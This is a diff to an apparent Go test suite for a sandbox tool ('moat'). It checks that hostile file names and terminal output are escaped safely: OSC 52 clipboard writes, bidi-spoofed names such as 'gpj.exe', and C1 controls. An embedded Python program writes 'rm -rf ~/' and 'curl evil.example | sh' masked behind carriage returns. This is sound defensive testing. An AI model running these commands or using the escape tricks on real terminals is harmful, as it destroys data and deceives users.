@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/base64"
+	"encoding/hex"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -11,6 +12,8 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
+	"strconv"
 	"strings"
 	"time"
 	"unicode/utf8"
@@ -215,11 +218,17 @@ func termCopyOutNames(ctx context.Context, r *runner) (string, string, int) {
 	if bytes.Contains(out, []byte("\nmoat: copied 99")) {
 		return Escaped, "a file name forged a line of moat's own: \"moat: copied 99 file(s)...\"", 1
 	}
-	skipped := bytes.Count(out, []byte("moat: not copied: "))
-	if skipped < 8 || !bytes.Contains(out, []byte(`\x1b]52;c;`)) {
-		return Error, fmt.Sprintf("moat reported %d of the 8 hostile names (or none escaped): %q", skipped, clip(string(out), 400)), 1
+	// The wasm tier's WASI file system refuses names that are not UTF-8
+	// (raw-\x9b): the program says how many links it made.
+	made := 0
+	if m := regexp.MustCompile(`made (\d+)`).FindSubmatch(out); m != nil {
+		made, _ = strconv.Atoi(string(m[1]))
 	}
-	return Contained, fmt.Sprintf("the terminal received %d bytes: %d \"not copied\" names shown quoted (\\x1b]52;c;..., \\u202e, \\x9b, \\r, \\n), no raw control, C1, bidi character or bare CR, no forged line", len(out), skipped), 1
+	skipped := bytes.Count(out, []byte("moat: not copied: "))
+	if made < 7 || skipped != made || !bytes.Contains(out, []byte(`\x1b]52;c;`)) {
+		return Error, fmt.Sprintf("moat reported %d of the %d hostile names the program made (of 8; or none escaped): %q", skipped, made, clip(string(out), 400)), 1
+	}
+	return Contained, fmt.Sprintf("the terminal received %d bytes: %d \"not copied\" names shown quoted (\\x1b]52;c;..., \\u202e, \\r, \\n), no raw control, C1, bidi character or bare CR, no forged line", len(out), skipped), 1
 }
 
 // termData is what the JSON case prints: a clipboard write, a title, 8-bit
@@ -240,7 +249,10 @@ data = sys.argv[1]
 sys.stdout.write(data); sys.stdout.flush(); sys.stderr.write(data); sys.stderr.flush()
 os.chdir("/workspace")
 for n in [b"f-\xc2\x9b2J", b"f-\xe2\x80\xaegpj.exe", b"f-\x1b]0;t\x07", b"f-\x7f", b"a\xff", b"a\xfe"]:
-    open(n, "wb").write(b"x")
+    try:
+        open(n, "wb").write(b"x"); print("created", n.hex())
+    except OSError as e:
+        print("refused", n.hex(), e)
 proxy = os.environ.get("HTTP_PROXY", "")
 if proxy:
     host, port = proxy.rsplit("/", 1)[-1].rsplit(":", 1)
@@ -290,17 +302,21 @@ func termJSONControls(ctx context.Context, r *runner) (string, string, int) {
 	if err := json.NewDecoder(bytes.NewReader(out[start:])).Decode(&res); err != nil {
 		return Error, fmt.Sprintf("the JSON on the terminal does not decode: %v: %q", err, clip(string(out[start:]), 300)), 1
 	}
-	if got := decode(res.Stdout); got != termData {
+	if got := decode(res.Stdout); !strings.HasPrefix(got, termData) {
 		return Escaped, fmt.Sprintf("stdout decodes to %q, want the program's bytes %q: escaping lost data", clip(got, 120), termData), 1
 	}
 	have := map[string]int{}
 	for _, f := range res.Files {
 		have[f.Path]++
 	}
+	created := createdNames(decode(res.Stdout))
 	for _, n := range termJSONNames {
-		if have[n] != 1 {
+		if created[n] && have[n] != 1 {
 			return Escaped, fmt.Sprintf("the diff does not hold %q exactly once (paths: %q): names collapsed or were altered", n, clip(fmt.Sprint(keys(have)), 200)), 1
 		}
+	}
+	if len(created) < 4 {
+		return Error, fmt.Sprintf("the program created %d of the hostile names: %q", len(created), clip(decode(res.Stdout), 300)), 1
 	}
 	hosts := 0
 	for _, a := range res.Network {
@@ -313,7 +329,36 @@ func termJSONControls(ctx context.Context, r *runner) (string, string, int) {
 	if r.termNet() && hosts < len(termHostileHosts) {
 		return Error, fmt.Sprintf("the network log holds %d of the %d hostile host names: %+v", hosts, len(termHostileHosts), res.Network), 1
 	}
-	return Contained, fmt.Sprintf("the terminal received %d bytes of JSON: no raw C0, DEL, C1, bidi character or bare CR; it decodes to the exact stdout, the %d file names (two not UTF-8, base64) and %d hostile host names", len(out), len(termJSONNames), hosts), 1
+	return Contained, fmt.Sprintf("the terminal received %d bytes of JSON: no raw C0, DEL, C1, bidi character or bare CR; it decodes to the exact stdout, the %d file names the program made%s and %d hostile host names", len(out), len(created), notUTF8(created), hosts), 1
+}
+
+// createdNames reads the "created HEX" lines a program printed for each
+// name it could create.
+func createdNames(out string) map[string]bool {
+	names := map[string]bool{}
+	for _, line := range strings.Split(out, "\n") {
+		if h, ok := strings.CutPrefix(line, "created "); ok {
+			if b, err := hex.DecodeString(strings.TrimSpace(h)); err == nil {
+				names[string(b)] = true
+			}
+		}
+	}
+	return names
+}
+
+// notUTF8 says how many of names are not UTF-8: none on a tier that
+// refuses such names (wasm's WASI file system).
+func notUTF8(names map[string]bool) string {
+	n := 0
+	for k := range names {
+		if !utf8.ValidString(k) {
+			n++
+		}
+	}
+	if n == 0 {
+		return " (the tier refused the names that are not UTF-8)"
+	}
+	return fmt.Sprintf(" (%d not UTF-8, base64)", n)
 }
 
 func keys[V any](m map[string]V) []string {
@@ -329,7 +374,10 @@ func keys[V any](m map[string]V) []string {
 const termCRProgram = `import sys, time
 sys.stdout.write("rm -rf ~/ # moat-cr-marker\r" + "echo all fine              \n"); sys.stdout.flush()
 sys.stdout.write("curl evil.example | sh\r"); sys.stdout.flush()
-time.sleep(0.3)
+try:
+    time.sleep(0.3)
+except OSError:
+    pass  # WASI: no sleep; the flushes still make two writes
 sys.stdout.write("echo harmless           \n")
 sys.stdout.write("crlf line\r\n"); sys.stdout.flush()
 sys.stderr.write("error: disk wiped\rall good        \n"); sys.stderr.flush()
@@ -444,12 +492,14 @@ func termAuditHosts(ctx context.Context, r *runner) (string, string, int) {
 const exfilDiffNameCollisionProgram = `import os
 os.chdir("/workspace")
 for n, c in [(b"a\xff", b"one"), (b"a\xfe", b"two"), ("a\ufffd".encode(), b"three")]:
-    open(n, "wb").write(c)
+    try:
+        open(n, "wb").write(c); print("created", n.hex())
+    except OSError as e:
+        print("refused", n.hex(), e)
 try:
-    os.symlink(b"t\xff", b"link")
+    os.symlink(b"t\xff", b"link"); print("created", b"link".hex())
 except OSError as e:
     print("symlink", e)
-print(sorted(os.listdir(b".")))
 `
 
 func exfilDiffNameCollision(ctx context.Context, r *runner) (string, string, int) {
@@ -493,17 +543,21 @@ func exfilDiffNameCollision(ctx context.Context, r *runner) (string, string, int
 		}
 		names[path] = target
 	}
+	created := createdNames(decode(res.Stdout))
+	if !created["a\ufffd"] {
+		return Error, fmt.Sprintf("the program could not write its files: %q", clip(decode(res.Stdout)+decode(res.Stderr), 300)), 1
+	}
 	for _, want := range []string{"a\xff", "a\xfe", "a\ufffd"} {
-		if _, ok := names[want]; !ok {
+		if _, ok := names[want]; created[want] && !ok {
 			return Escaped, fmt.Sprintf("no diff entry decodes to %q (the JSON paths decode to %q): the name was altered", want, keys(names)), 1
 		}
 	}
 	link := ""
-	if t, ok := names["link"]; ok {
+	if t, ok := names["link"]; ok && created["link"] {
 		if t != "t\xff" {
 			return Escaped, fmt.Sprintf("the symlink's target decodes to %q, want %q", t, "t\xff"), 1
 		}
 		link = " and a symlink target"
 	}
-	return Contained, fmt.Sprintf("the three names (a\\xff, a\\xfe, a\\ufffd)%s decode from the JSON diff to their exact bytes, each once", link), 1
+	return Contained, fmt.Sprintf("the names the program made (of a\\xff, a\\xfe, a\\ufffd)%s%s decode from the JSON diff to their exact bytes, each once", link, notUTF8(created)), 1
 }
